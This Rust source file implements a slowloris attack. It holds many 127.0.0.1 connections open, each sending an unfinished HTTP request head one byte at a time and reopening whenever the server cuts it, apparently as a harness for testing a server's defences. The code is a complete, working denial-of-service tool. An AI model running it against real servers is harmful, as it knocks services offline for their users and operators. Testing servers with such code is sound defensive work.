//! A slowloris attack on 127.0.0.1:`port`: `count` connections that each send a request head one
//! byte at a time and never finish it. A connection the server cuts is opened again at once (as
//! the attack tool does), so the server faces `count` of them for the whole attack; each cut is
//! timed from the connection's first byte. One thread drives them all with `poll(2)`.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::os::fd::AsFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use nix::poll::{PollFd, PollFlags, PollTimeout, poll};
use nix::sys::resource::{Resource, getrlimit, setrlimit};

/// The head every connection starts, then a header value that never ends (`a` after `a`).
const HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: slowloris.test\r\nX-Slowloris: ";
/// How often the driver looks for bytes due (the cut times are exact: `poll` wakes on them).
const TICK: Duration = Duration::from_millis(50);

/// What the attack saw, from [`Slowloris::stop`].
#[derive(Debug, Default)]
pub struct Report {
    /// Connections opened in all (the first `count` and every reopening).
    pub opened: usize,
    /// Connections the server closed, each with how long after its first byte.
    pub cuts: Vec<Duration>,
    /// Connections the server answered instead (it never should: no head was complete).
    pub answered: Vec<String>,
    /// Connections that could not be opened or written, with why.
    pub failed: Vec<String>,
    /// Connections still open when the attack stopped, with how long they had been.
    pub open_at_stop: Vec<Duration>,
    /// Bytes sent in all.
    pub bytes: usize,
}

/// The running attack; [`Slowloris::stop`] ends it and closes its connections.
pub struct Slowloris {
    stop: Arc<AtomicBool>,
    driver: Option<JoinHandle<Report>>,
}

impl Slowloris {
    /// Opens `count` connections to 127.0.0.1:`port` (all before it returns) and keeps each
    /// sending one byte every `byte_every`; with `reopen`, a cut connection is opened again.
    pub fn start(port: u16, count: usize, byte_every: Duration, reopen: bool) -> Slowloris {
        raise_fd_limit(count as u64 + 256);
        let mut report = Report::default();
        let mut conns = Vec::with_capacity(count);
        for _ in 0..count {
            if let Some(conn) = Conn::open(port, &mut report) {
                conns.push(conn);
            }
        }
        let stop = Arc::new(AtomicBool::new(false));
        let driver = {
            let stop = Arc::clone(&stop);
            std::thread::spawn(move || drive(port, conns, byte_every, reopen, &stop, report))
        };
        Slowloris {
            stop,
            driver: Some(driver),
        }
    }

    /// Stops the attack, closes every connection and says what it saw.
    pub fn stop(mut self) -> Report {
        self.stop.store(true, Ordering::Relaxed);
        self.driver
            .take()
            .and_then(|d| d.join().ok())
            .unwrap_or_default()
    }
}

impl Drop for Slowloris {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(driver) = self.driver.take() {
            let _ = driver.join();
        }
    }
}

struct Conn {
    stream: TcpStream,
    /// Just before the first byte was written (so a cut is never timed short).
    first_byte: Instant,
    sent: usize,
    next_byte: Instant,
}

impl Conn {
    /// Connects and writes the first byte.
    fn open(port: u16, report: &mut Report) -> Option<Conn> {
        let opened = TcpStream::connect(("127.0.0.1", port)).and_then(|mut stream| {
            stream.set_nodelay(true)?;
            let first_byte = Instant::now();
            stream.write_all(&HEAD[..1])?;
            stream.set_nonblocking(true)?;
            Ok(Conn {
                stream,
                first_byte,
                sent: 1,
                next_byte: first_byte,
            })
        });
        report.opened += 1;
        match opened {
            Ok(conn) => {
                report.bytes += 1;
                Some(conn)
            }
            Err(e) => {
                report.failed.push(format!("open: {e}"));
                None
            }
        }
    }

    /// Sends the next byte: false if the server has closed the connection.
    fn send(&mut self) -> bool {
        let byte = HEAD.get(self.sent).copied().unwrap_or(b'a');
        match self.stream.write(&[byte]) {
            Ok(1) => {
                self.sent += 1;
                true
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => true,
            _ => false,
        }
    }
}

/// What a readable connection had to say.
enum Readable {
    Closed,
    Answered(String),
}

fn drive(
    port: u16,
    mut conns: Vec<Conn>,
    byte_every: Duration,
    reopen: bool,
    stop: &AtomicBool,
    mut report: Report,
) -> Report {
    for conn in &mut conns {
        conn.next_byte = conn.first_byte + byte_every;
    }
    while !stop.load(Ordering::Relaxed) {
        let readable: Vec<usize> = {
            let mut fds: Vec<PollFd> = conns
                .iter()
                .map(|c| PollFd::new(c.stream.as_fd(), PollFlags::POLLIN))
                .collect();
            let timeout = PollTimeout::try_from(TICK).unwrap_or(PollTimeout::ZERO);
            match poll(&mut fds, timeout) {
                Ok(0) | Err(_) => Vec::new(),
                Ok(_) => fds
                    .iter()
                    .enumerate()
                    .filter(|(_, fd)| fd.any().unwrap_or(true))
                    .map(|(i, _)| i)
                    .collect(),
            }
        };
        let now = Instant::now();
        let mut gone = Vec::new();
        for i in readable {
            match read(&mut conns[i].stream) {
                Some(Readable::Closed) => gone.push((i, None)),
                Some(Readable::Answered(text)) => gone.push((i, Some(text))),
                None => {}
            }
        }
        for conn in conns.iter_mut().enumerate() {
            let (i, conn) = conn;
            if conn.next_byte <= now && !gone.iter().any(|(g, _)| *g == i) {
                if conn.send() {
                    report.bytes += 1;
                    conn.next_byte += byte_every;
                } else {
                    gone.push((i, None));
                }
            }
        }
        // Highest index first, so swap_remove moves only connections already looked at.
        gone.sort_by_key(|(i, _)| std::cmp::Reverse(*i));
        for (i, answer) in gone {
            let conn = conns.swap_remove(i);
            match answer {
                None => report.cuts.push(now.duration_since(conn.first_byte)),
                Some(text) => report.answered.push(text),
            }
            if reopen && let Some(mut conn) = Conn::open(port, &mut report) {
                conn.next_byte = conn.first_byte + byte_every;
                conns.push(conn);
            }
        }
    }
    let now = Instant::now();
    report.open_at_stop = conns
        .iter()
        .map(|c| now.duration_since(c.first_byte))
        .collect();
    report
}

/// Reads what a connection `poll` found readable: `None` if nothing after all.
fn read(stream: &mut TcpStream) -> Option<Readable> {
    let mut buf = [0u8; 512];
    match stream.read(&mut buf) {
        Ok(0) => Some(Readable::Closed),
        Ok(n) => Some(Readable::Answered(
            String::from_utf8_lossy(&buf[..n]).into_owned(),
        )),
        Err(e) if e.kind() == ErrorKind::WouldBlock => None,
        Err(_) => Some(Readable::Closed),
    }
}

/// Raises this process's soft limit on open files to at least `needed` (up to the hard limit),
/// so hundreds of connections fit beside the test's own files.
pub fn raise_fd_limit(needed: u64) {
    if let Ok((soft, hard)) = getrlimit(Resource::RLIMIT_NOFILE)
        && soft < needed
    {
        let _ = setrlimit(Resource::RLIMIT_NOFILE, needed.min(hard), hard);
    }
}
